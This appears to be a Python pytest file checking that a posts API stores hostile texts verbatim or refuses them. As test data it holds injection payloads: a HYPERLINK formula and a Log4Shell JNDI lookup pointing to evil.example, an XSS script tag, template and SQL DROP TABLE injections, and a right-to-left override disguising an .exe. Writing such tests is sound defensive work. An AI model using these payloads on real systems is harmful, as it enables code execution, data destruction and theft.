"""Hostile texts 50 to 55 of the list in docs/reference/reliability.md: kept as they are, or refused; never run."""

import httpx
import pytest

from tests.api.desk import answer, problems, read, write
from tests.factories import Team

FAMILY = "👨‍👩‍👧‍👦"
KEPT = {
    "50 combining marks": "e" + "\u0301" * 4_000,
    "50 families": FAMILY * 400,
    "51 an override": "茶\u202egnp.exe\u202c",
    "52 beyond the first plane": "𠮷𪚥 \U0003fffd \ue000",
    "53 formulas": '=HYPERLINK("http://evil.example")\n+1\n-1\n@SUM(A1)\n\t=1\n\r=1\n＝1+1',
    "54 scripts": "<script>alert(1)</script> {{7*7}} ${jndi:ldap://evil.example/a} '; DROP TABLE posts; -- %s%n",
    "55 mentions": "@茶" * 100,
}


@pytest.mark.long
async def test_what_may_be_written_stays_as_it_was_written(client: httpx.AsyncClient, team: Team) -> None:
    for name, text in KEPT.items():
        post = await write(client, team, title=text[:500], body=text)
        kept = await read(client, post)
        assert (kept["title"], kept["body"]) == (text[:500], text), name
        found = answer(await client.get("/v1/posts", params={"q": text[:20]}))["data"]
        assert post["id"] in [one["id"] for one in found], name
        checked = await client.post(f"/v1/posts/{post['id']}/preflight")
        assert checked.status_code == 200, name


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"body": "\u202e\u200b\u2060"}, {"/body": "blank_text"}),
        ({"body": "a\x00b"}, {"/body": "nul_character"}),
        ({"hashtags": [f"标签{n}" for n in range(500)]}, {"/hashtags": "invalid_length"}),
        ({"hashtags": ["=1 +1"]}, {"/hashtags/0": "invalid_hashtag"}),
        ({"links": ["https://tea.example.com/" + "a" * 10_000]}, {"/links/0": "invalid_string"}),
        ({"links": ["javascript:alert(1)"]}, {"/links/0": "invalid_link"}),
        ({"due_on": "2027-02-29"}, {"/due_on": "invalid_date"}),
        ({"due_on": "0001-01-01"}, {"/due_on": "date_in_past"}),
        ({"due_on": "9999-12-31"}, {"/due_on": "date_too_far"}),
    ],
)
async def test_what_may_not_be_written(
    client: httpx.AsyncClient, team: Team, fields: dict[str, object], expected: dict[str, str]
) -> None:
    body = {"title": "x", "body": "x", "kind": "image_text", "nature": "editorial"}
    refused = await client.post("/v1/posts", json=body | {"brand_id": str(team.brand_id)} | fields)
    assert problems(refused) == expected
    assert answer(await client.get("/v1/posts"))["data"] == []
